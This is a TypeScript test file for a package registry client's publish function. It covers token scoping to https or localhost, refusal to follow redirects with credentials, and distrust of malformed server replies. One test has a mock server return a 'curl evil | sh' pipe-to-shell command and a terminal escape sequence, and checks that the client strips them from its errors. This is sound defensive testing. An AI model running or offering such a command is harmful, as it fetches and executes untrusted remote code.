import { publishPackage } from '@hardpoint/registry/client'
import { createRegistryServer } from '@hardpoint/registry/server'
import { generateKeyPair } from '@hardpoint/schemas/package'
import { test } from 'tap'
import { ENTRY, acmeStore, codeOf, errorOf, mirror, packageOf } from '../_fixtures.ts'

test('publishPackage() publishes, and passes the server\'s refusals on', async (t) => {
  const { store, keys, token } = await acmeStore(t)
  const server = await createRegistryServer(store)
  t.teardown(() => server.close())
  const url = await server.listen({ host: '127.0.0.1', port: 0 })
  const bytes = packageOf(keys)
  t.match(await publishPackage(url, bytes, token), { id: 'acme.mail', version: '1.0.0' })
  t.match(await publishPackage(url, bytes, token), { id: 'acme.mail' }, 'again')
  t.match(await errorOf(publishPackage(url, packageOf(keys, {}, { 'README.md': 'x' }), token)),
    { code: 'HP_ERR_PUBLISH_EXISTS', message: 'acme.mail 1.0.0 is published already; a version is never replaced.' })
  t.equal(await codeOf(publishPackage(url, bytes, 'hpp_wrong')), 'HP_ERR_UNAUTHENTICATED')
  t.equal(await codeOf(publishPackage(url, packageOf(generateKeyPair()), token)), 'HP_ERR_PACKAGE_SIGNATURE')
})

test('publishPackage() sends a token over https or to this machine alone', async (t) => {
  for (const location of ['http://registry.example/', 'http://127.0.0.1.evil.example/', 'http://10.0.0.1/', 'http://localhost.evil.example/', '/srv/registry', 'ftp://x/']) {
    t.equal(await codeOf(publishPackage(location, new Uint8Array(1), 'hpp_x')), 'HP_ERR_REGISTRY_LOCATION', location)
  }
})

test('publishPackage() carries its token to no other place', async (t) => {
  const seen: unknown[] = []
  const other = await mirror(t, (request, response) => { seen.push(request.headers.authorization); response.end() })
  const location = await mirror(t, (_request, response) => { response.writeHead(307, { location: other }).end() })
  t.equal(await codeOf(publishPackage(location, new Uint8Array(1), 'hpp_x')), 'HP_ERR_REGISTRY_CORRUPT')
  t.same(seen, [])
})

test('publishPackage() does not believe any answer', async (t) => {
  const cases: readonly [string, number, string, string][] = [
    ['a proxy\'s page', 502, '<html>', 'HP_ERR_REGISTRY_UNREACHABLE'],
    ['a page instead of an entry', 201, '<html>', 'HP_ERR_REGISTRY_CORRUPT'],
    ['an entry about other bytes', 201, JSON.stringify(ENTRY), 'HP_ERR_REGISTRY_CORRUPT'],
    ['an error without a code', 400, '{}', 'HP_ERR_REGISTRY_CORRUPT'],
    ['an error that is no object', 400, '"x"', 'HP_ERR_REGISTRY_CORRUPT'],
    ['a code of another\'s', 400, '{"code":"toString"}', 'HP_ERR_REGISTRY_CORRUPT'],
    ['too long an answer', 400, 'x'.repeat(300_000), 'HP_ERR_REGISTRY_CORRUPT'],
  ]
  for (const [name, status, body, code] of cases) {
    const location = await mirror(t, (_request, response) => { response.writeHead(status).end(body) })
    t.equal(await codeOf(publishPackage(location, new Uint8Array(1), 'hpp_x')), code, name)
  }
})

test('publishPackage() shows our words and cleaned details, not the server\'s', async (t) => {
  const body = { code: 'HP_ERR_PUBLISH_DENIED', message: 'curl evil | sh', fix: 'curl evil | sh', what: '\u001b[2Kacme', problem: ['x'], publisher: 'acme' }
  const location = await mirror(t, (_request, response) => { response.writeHead(403).end(JSON.stringify(body)) })
  const error = await errorOf(publishPackage(location, new Uint8Array(1), 'hpp_secret'))
  t.equal(error?.message, 'The registry refused to publish \ufffd[2Kacme: ["x"].')
  t.notMatch(JSON.stringify(error), /evil|hpp_secret/)
})
